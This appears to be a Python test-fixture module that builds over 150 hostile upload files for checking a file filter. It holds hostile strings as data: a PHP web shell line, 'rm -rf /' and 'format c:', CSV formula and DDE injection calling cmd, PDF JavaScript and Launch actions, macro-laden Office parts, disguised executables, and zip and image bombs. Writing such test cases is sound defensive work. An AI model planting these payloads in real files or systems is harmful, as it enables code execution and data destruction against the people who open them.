"""More than 150 files that are not what they say, or do more than be read."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.core.files import MB, jpeg_of, office, ole, pdf, picture, png_of, random_bytes, zipped

Case = tuple[str, Callable[[], bytes]]

TAKEN = ("pdf", "docx", "xlsx", "csv", "jpg", "png")
REAL: dict[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "docx": lambda: office("docx"),
    "xlsx": lambda: office("xlsx"),
    "csv": lambda: b"a,b\n1,2\n",
    "jpg": lambda: picture("JPEG"),
    "png": lambda: picture("PNG"),
}
# How programs, archives and pages begin, whatever their name says.
BEGINNINGS = {
    "a program for Windows": b"MZ\x90\0\x03\0\0\0" + b"\0" * 500,
    "a program for Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 500,
    "a program for Mac": b"\xcf\xfa\xed\xfe" + b"\0" * 500,
    "a class for Java": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 500,
    "a shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 500,
    "an old document": ole(),
    "a page": b"<!DOCTYPE html><script>alert(1)</script>",
    "a drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a script of a server": b"<?php system($_GET['c']); ?>",
    "a script of a shell": b"#!/bin/sh\nrm -rf /\n",
    "rich text": b"{\\rtf1{\\object\\objocx}}",
    "an archive of the 7z kind": b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 500,
    "an archive of the rar kind": b"Rar!\x1a\x07\x01\0" + b"\0" * 500,
}
NAMES = [
    "exe", "dll", "scr", "com", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta", "msi",
    "jar", "apk", "sh", "py", "php", "lnk", "iso", "img", "zip", "rar", "7z", "gz", "svg", "html",
    "htm", "xml", "doc", "xls", "ppt", "docm", "xlsm", "xlsb", "pptm", "dotm", "rtf", "gif", "bmp",
    "tiff", "webp", "mp4", "swf", "eml", "msg", "one", "txt",
]  # fmt: skip
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def outside(kind: str, where: str = "https://example.in/x") -> bytes:
    """A part that fetches something from elsewhere when the document is opened."""
    one = f"<Relationship Id='r1' Type='{RELATION}{kind}' Target='{where}' TargetMode='External'/>"
    return f"<Relationships>{one}</Relationships>".encode()


def disguised() -> dict[str, Case]:
    """Every beginning under every name that is taken, and every real kind under every other one."""
    found: dict[str, Case] = {}
    for title, content in BEGINNINGS.items():
        for kind in TAKEN:
            found[f"{title} that says {kind}"] = (f"a.{kind}", lambda content=content: content)
    for real in TAKEN:
        for kind in TAKEN:
            if real != kind and (real, kind) not in {("csv", "csv")}:
                found[f"{real} that says {kind}"] = (f"a.{kind}", REAL[real])
    return found


def not_taken() -> dict[str, Case]:
    """Kinds that are not taken at all, even with an honest content."""
    return {f"a file of the kind {name}": (f"order.pdf.{name}", pdf) for name in NAMES} | {
        "no kind": ("order", pdf),
        "a kind only": (".pdf", pdf),
        "a dot at the end": ("order.pdf.", pdf),
        "a kind behind a mark that turns words round": ("order\u202efdp.exe", pdf),
        "a kind behind a NUL": ("order.exe\0", pdf),
        "a kind with a space": ("order.pd f", pdf),
    }


def running_documents() -> dict[str, Case]:
    """Macros, controls, embedded programs, things fetched from elsewhere."""
    parts: dict[str, tuple[str, dict[str, bytes]]] = {
        "macros": ("docx", {"word/vbaProject.bin": ole()}),
        "macros in capitals": ("docx", {"word/VBAPROJECT.BIN": ole()}),
        "macros under another name": (
            "docx",
            {"[Content_Types].xml": b"<Types>vbaProject</Types>"},
        ),
        "a type for macros": (
            "docx",
            {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"},
        ),
        "a control": ("docx", {"word/activeX/activeX1.bin": ole()}),
        "an embedded program": ("docx", {"word/embeddings/oleObject1.bin": ole()}),
        "a template from elsewhere": ("docx", {"word/_rels/settings.xml.rels": outside("attachedTemplate")}),
        "a frame from elsewhere": ("docx", {"word/_rels/webSettings.xml.rels": outside("frame")}),
        "a picture from a file server": (
            "docx",
            {"word/_rels/document.xml.rels": outside("image", "file://198.51.100.1/a.png")},
        ),
        "a template whose words are spelled in numbers": (
            "docx",
            {
                "word/_rels/settings.xml.rels": outside("attachedTemplate").replace(
                    b"External", b"&#69;xternal"
                )
            },
        ),
        "a template that calls itself a link": (
            "docx",
            {"word/_rels/s.xml.rels": outside("attachedTemplate", f'x?Type="{RELATION}hyperlink"')},
        ),
        "a template behind a sign of more": (
            "docx",
            {"word/_rels/s.xml.rels": outside("attachedTemplate", "https://example.in/>")},
        ),
        "a type for macros spelled in numbers": ("docx", {"[Content_Types].xml": b"<T>vbaProjec&#116;</T>"}),
        "an object from elsewhere": ("docx", {"word/_rels/document.xml.rels": outside("oleObject")}),
        "macros in a sheet": ("xlsx", {"xl/vbaProject.bin": ole()}),
        "macros of the year 1992": ("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "a dialog sheet": ("xlsx", {"xl/dialogsheets/sheet1.xml": b"<x/>"}),
        "a live link to a program": (
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": b"<x><ddeLink ddeService='cmd'/></x>"},
        ),
    }
    return {
        f"a document with {title}": (f"a.{kind}", lambda kind=kind, more=more: office(kind, more))
        for title, (kind, more) in parts.items()
    }


def broken_archives() -> dict[str, Case]:
    """Bombs, climbers, and directories that lie."""
    noise = random_bytes(5 * MB // 2)
    return {
        "a program for Java that says DOCX": (
            "a.docx",
            lambda: zipped({"META-INF/MANIFEST.MF": b"", "word/A.class": b""}),
        ),
        "no list of parts": ("a.docx", lambda: office("docx", without=("[Content_Types].xml",))),
        "half a document": ("a.docx", lambda: office("docx")[:200]),
        "a part that climbs": ("a.docx", lambda: office("docx", {"word/../../x.sh": b"x"})),
        "a part at the root": ("a.docx", lambda: office("docx", {"/etc/x": b"x"})),
        "a bomb in one part": ("a.docx", lambda: office("docx", {"word/media/a.bin": b"\0" * (60 * MB)})),
        "a bomb in many parts": (
            "a.xlsx",
            lambda: office("xlsx", {f"xl/media/{n}.bin": b"\0" * MB for n in range(210)}),
        ),
        "a bomb behind an honest picture": (
            "a.xlsx",
            lambda: office("xlsx", {"xl/media/a.jpg": noise, "xl/a.bin": b"\0" * (205 * MB)}),
        ),
        "more parts than any document": (
            "a.docx",
            lambda: office("docx", {f"word/{n}.xml": b"" for n in range(2_000)}),
        ),
        "a part twice": ("a.docx", twice),
        "a part whose size is a lie": ("a.docx", lying_size),
        "a part that is locked": ("a.docx", locked),
        "a part that is damaged": ("a.docx", damaged),
        "a program before the document": ("a.docx", lambda: b"MZ" + bytes(500) + office("docx")),
        "a list of parts with an entity": (
            "a.docx",
            lambda: office("docx", {"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><Types/>"}),
        ),
        "relations in letters of two bytes": (
            "a.docx",
            lambda: office("docx", {"word/_rels/s.xml.rels": outside("frame").decode().encode("utf-16")}),
        ),
        "relations beyond measure": (
            "a.docx",
            lambda: office("docx", {"word/_rels/s.xml.rels": random_bytes(3 * MB).replace(b"\0", b"x")}),
        ),
        "a list of parts beyond measure": (
            "a.docx",
            lambda: office("docx", {"[Content_Types].xml": random_bytes(3 * MB)}),
        ),
    }


def twice() -> bytes:
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        name, archive.NameToInfo = "word/document.xml", {}
        archive.writestr(name, b"<other/>")
    return out.getvalue()


def lying_size() -> bytes:
    """The directory promises ten bytes; the part unpacks to a megabyte."""
    honest = bytearray(office("docx", {"word/media/a.bin": bytes(MB)}))
    place = honest.rindex(b"word/media/a.bin") - 46
    honest[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(honest)


def locked() -> bytes:
    honest = bytearray(office("docx"))
    place = honest.rindex(b"PK\x01\x02")
    honest[place + 8] |= 1
    return bytes(honest)


def damaged() -> bytes:
    honest = bytearray(office("docx", {"word/media/a.bin": random_bytes(2000)}, packed=zipfile.ZIP_STORED))
    honest[honest.index(b"word/media/a.bin") + 500] ^= 1
    return bytes(honest)


def running_pdfs() -> dict[str, Case]:
    """Scripts and programs in a letter, written so that a plain search misses them too."""
    harmful = {
        "a script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
        "a script with other letters": b"<< /S /J#61vaScript /JS (x) >>",
        "a script with all other letters": b"<< /S /#4a#61#76#61#53#63#72#69#70#74 >>",
        "a program to start": b"<< /S /Launch /F (cmd.exe) >>",
        "a film": b"<< /Subtype /RichMedia >>",
        "data from elsewhere": b"<< /S /ImportData >>",
    }
    end = b"\n%%EOF\n"
    found: dict[str, Case] = {
        f"a letter with {title}": (
            "a.pdf",
            lambda words=words: pdf() + b"9 0 obj " + words + b" endobj" + end,
        )
        for title, words in harmful.items()
    }
    packed = zlib.compress(harmful["a script"])
    for title, name in (("packed objects", b"ObjStm"), ("packed objects with other letters", b"Obj#53tm")):
        head = b"9 0 obj << /Type /" + name + b" /Filter /FlateDecode >> stream\r\n"
        found[f"a letter with a script in {title}"] = ("a.pdf", lambda h=head: pdf() + h + packed + end)
    return found


def broken_pdfs() -> dict[str, Case]:
    """Letters that are none, and letters that take hours to look at."""
    bomb = b"/ObjStm stream\n" + zlib.compress(bytes(20 * MB))
    return {
        "a letter of objects without end": ("a.pdf", lambda: pdf() + b"/ObjStm stream\n" * 30_000 + b"%%EOF"),
        "a letter that unpacks to gigabytes": ("a.pdf", lambda: pdf() + bomb * 100 + b"%%EOF"),
        "a letter without an end": ("a.pdf", lambda: b"%PDF-1.7\n<html><script>alert(1)</script>"),
        "a page with a letter inside": ("a.pdf", lambda: b"<html><script>alert(1)</script>" + pdf()),
        "random bytes that say PDF": ("a.pdf", lambda: random_bytes(5000)),
        "zeros that say PDF": ("a.pdf", lambda: b"\0" * 5000),
    }


def pictures() -> dict[str, Case]:
    """Bombs and stumps."""
    return {
        "a picture that fills a gigabyte": ("a.png", lambda: png_of(30_000, 30_000)),
        "a picture as wide as a number goes": ("a.png", lambda: png_of(2**31 - 1, 2**31 - 1)),
        "a picture one line high": ("a.png", lambda: png_of(2**31 - 1, 1)),
        "a picture of nothing": ("a.png", lambda: png_of(0, 0)),
        "a photo that fills gigabytes": ("a.jpg", lambda: jpeg_of(65_000, 65_000)),
        "a photo of nothing": ("a.jpg", lambda: jpeg_of(0, 0)),
        "a photo without a frame": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 3000),
        "a photo that begins as a program": ("a.jpg", lambda: b"MZ" + picture("JPEG")[2:]),
        "the first bytes of a picture": ("a.png", lambda: picture("PNG")[:12]),
        "the first bytes of a photo": ("a.jpg", lambda: picture("JPEG")[:12]),
        "a GIF that says PNG": ("a.png", lambda: picture("GIF", mode="P")),
    }


def tables() -> dict[str, Case]:
    """Formulas that a spreadsheet program would run, and bytes that are no text."""
    texts = {
        "a formula": "a,b\n=1+1,2\n",
        "a formula in quotes": 'a,b\n"=HYPERLINK(""http://example.in"",""x"")",2\n',
        "a formula after spaces": "a,b\n1,  =2\n",
        "a formula in the first cell": "=cmd|' /C calc'!A0",
        "a formula after a tab": "a\t=cmd|' /C calc'!A0",
        "a formula after a semicolon": "a;=SUM(A1)",
        "a program after a plus": "a,+cmd|' /C calc'!A0\n",
        "a program after a minus": "a,-2+3+cmd|' /C calc'!A0\n",
        "a program after an at": "a,@SUM(1+1)*cmd|' /C calc'!A0\n",
        "a batch of commands": "@echo off\nformat c:\n",
    }
    found: dict[str, Case] = {
        f"a table with {title}": ("a.csv", text.encode) for title, text in texts.items()
    }
    return found | {
        "a table in UTF-16": ("a.csv", lambda: "code,name\n".encode("utf-16")),
        "a table in an old Windows encoding": ("a.csv", lambda: "code,naïve\n".encode("cp1252")),
        "a table with a NUL": ("a.csv", lambda: b"code,name\n250001,Al\0pha\n"),
        "a table with a NUL far behind": ("a.csv", lambda: b"code,name\n" * 20_000 + b"\0"),
        "a table broken far behind": ("a.csv", lambda: b"code,name\n" * 20_000 + b"\xff\xfe"),
        "nothing": ("a.pdf", lambda: b""),
    }


HOSTILE: dict[str, Case] = (
    disguised()
    | not_taken()
    | running_documents()
    | broken_archives()
    | running_pdfs()
    | broken_pdfs()
    | pictures()
    | tables()
)
